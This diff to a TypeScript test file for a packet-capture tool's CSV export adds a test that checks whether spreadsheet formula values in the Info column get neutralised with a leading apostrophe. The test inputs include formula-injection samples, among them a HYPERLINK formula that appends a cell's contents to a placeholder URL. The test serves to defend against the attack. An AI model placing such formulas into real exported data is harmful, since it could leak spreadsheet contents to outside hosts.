@@ -5,6 +5,11 @@ import path from 'node:path';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
 import { runDissect } from '../../src/cli/dissect.ts';
 import { runExport } from '../../src/cli/export.ts';
+import { csvLine } from '../../src/cli/packet-text.ts';
+import { dissectPacket } from '../../src/dissect/dissect-packet.ts';
+import type { Dissection } from '../../src/dissect/dissection.ts';
+import { spreadsheetText } from '../../src/words/spreadsheet.ts';
+import { readAll } from '../golden/table.ts';
 import { fixture, printed } from './run.ts';
 
 let folder = '';
@@ -52,6 +57,21 @@ it('writes the columns of the list as CSV, quotes doubled', async () => {
   expect(lines[0]).toBe('"No.","Time","Source","Destination","Protocol","Length","Info"');
   expect(lines).toHaveLength(27);
   expect(lines[1]).toMatch(/^"1","0\.000000","[^"]+","[^"]+","[A-Z0-9v]+","\d+",".+"$/);
+});
+
+it('writes no text into CSV that a spreadsheet would run, and numbers as they are', async () => {
+  const read = await readAll(fixture('dns.pcap'));
+  if (read === null) throw new Error('the fixture cannot be read');
+  const { capture, reader } = read;
+  const d = dissectPacket(capture, 1);
+  capture.packets.chunkOf(1).sec[1] = (capture.packets.chunkOf(0).sec[0] as number) - 1;
+  for (const info of ['=HYPERLINK("http://x/?"&A1)', '+1', '-1+1', '@SUM(A1)', '\uff1d1']) {
+    const line = csvLine(capture, Object.create(d, { columns: { value: { ...d.columns, info } } }) as Dissection);
+    expect(line).toMatch(/^"2","-\d\.\d{6,}","[\da-f.:]+","[\da-f.:]+","DNS","\d+","'/);
+    expect(line).toContain(`"'${info.replaceAll('"', '""')}"\n`);
+  }
+  await reader.close();
+  expect(['Seq=1', ' =1', '', "'=1"].map(spreadsheetText)).toEqual(['Seq=1', ' =1', '', "'=1"]);
 });
 
 it('refuses a name whose format it does not know, and the capture itself', async () => {
